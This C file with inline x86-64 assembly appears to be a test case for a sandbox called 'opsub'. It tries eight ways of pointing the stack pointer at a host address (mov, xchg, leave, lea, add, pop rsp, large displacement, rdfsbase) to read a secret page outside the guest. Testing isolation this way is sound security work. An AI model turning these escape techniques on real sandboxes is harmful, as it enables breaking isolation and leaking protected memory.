// Attack: read host memory through the stack pointer: set rsp to the host
// address in different ways (mov, xchg, leave, lea, add, rdfsbase, pop rsp)
// and pop; or keep rsp large and read [rsp + disp32] (large rsp +
// displacement).
// Natively: reads the secret page.
// Under opsub: every 64-bit write of rsp is followed by mov esp, esp (rsp
// stays a guest address) and rsp-based operands are 32-bit.
// variants: mov_pop xchg_pop leave lea_pop add_pop popr_pop rsp_disp rdfsbase_pop
// native-needs: fsgsbase
// stdin: hostaddr
#include "attack.h"

uint64_t vr_saved_rsp, vr_target, vr_out[4], vr_fsbase, vr_cell;

int main(int argc, char **argv)
{
	const char *v = variant(argc, argv);
	get_targets();
	vr_target = T.data;
	vr_cell = T.data;
	__asm__ volatile("rdfsbase %%rax\n mov %%rax, vr_fsbase(%%rip)" ::: "rax");
#define SAVE "mov %%rsp, vr_saved_rsp(%%rip)\n"
#define POP4 "pop %%rax\n pop %%rbx\n pop %%rcx\n pop %%rdx\n"
#define RESTORE "mov vr_saved_rsp(%%rip), %%rsp\n mov %%rax, vr_out(%%rip)\n mov %%rbx, vr_out+8(%%rip)\n" \
                "mov %%rcx, vr_out+16(%%rip)\n mov %%rdx, vr_out+24(%%rip)\n"
#define CLOB "rax", "rbx", "rcx", "rdx", "rbp", "memory"
	if (!strcmp(v, "mov_pop"))
		__asm__ volatile(SAVE "mov vr_target(%%rip), %%rsp\n" POP4 RESTORE ::: CLOB);
	else if (!strcmp(v, "xchg_pop"))
		__asm__ volatile(SAVE "mov vr_target(%%rip), %%rax\n xchg %%rax, %%rsp\n" POP4 RESTORE ::: CLOB);
	else if (!strcmp(v, "leave"))
		/* leave: rsp = rbp, pop rbp; then three more pops */
		__asm__ volatile("push %%rbp\n" SAVE "mov vr_target(%%rip), %%rbp\n leave\n mov %%rbp, %%rax\n"
		                 "pop %%rbx\n pop %%rcx\n pop %%rdx\n" RESTORE "pop %%rbp\n" ::: "rax", "rbx", "rcx", "rdx", "memory");
	else if (!strcmp(v, "lea_pop"))
		__asm__ volatile(SAVE "mov vr_target(%%rip), %%rax\n lea (%%rax), %%rsp\n" POP4 RESTORE ::: CLOB);
	else if (!strcmp(v, "add_pop"))
		__asm__ volatile(SAVE "xor %%eax, %%eax\n mov %%rax, %%rsp\n add vr_target(%%rip), %%rsp\n" POP4 RESTORE ::: CLOB);
	else if (!strcmp(v, "popr_pop"))
		__asm__ volatile(SAVE "push vr_target(%%rip)\n pop %%rsp\n" POP4 RESTORE ::: CLOB);
	else if (!strcmp(v, "rsp_disp"))
		/* rsp = target - 1 GiB, then [rsp + 1 GiB] */
		__asm__ volatile(SAVE "mov vr_target(%%rip), %%rax\n sub $0x40000000, %%rax\n mov %%rax, %%rsp\n"
		                 "mov 0x40000000(%%rsp), %%rax\n mov 0x40000008(%%rsp), %%rbx\n"
		                 "mov 0x40000010(%%rsp), %%rcx\n mov 0x40000018(%%rsp), %%rdx\n" RESTORE ::: CLOB);
	else
		/* the emulated FS base, loaded straight into rsp */
		__asm__ volatile(SAVE "mov vr_target(%%rip), %%rax\n wrfsbase %%rax\n rdfsbase %%rsp\n" POP4
		                 "mov vr_fsbase(%%rip), %%rsi\n wrfsbase %%rsi\n" RESTORE ::: CLOB, "rsi");
	report_read(v, vr_out, sizeof(vr_out));
	return 0;
}
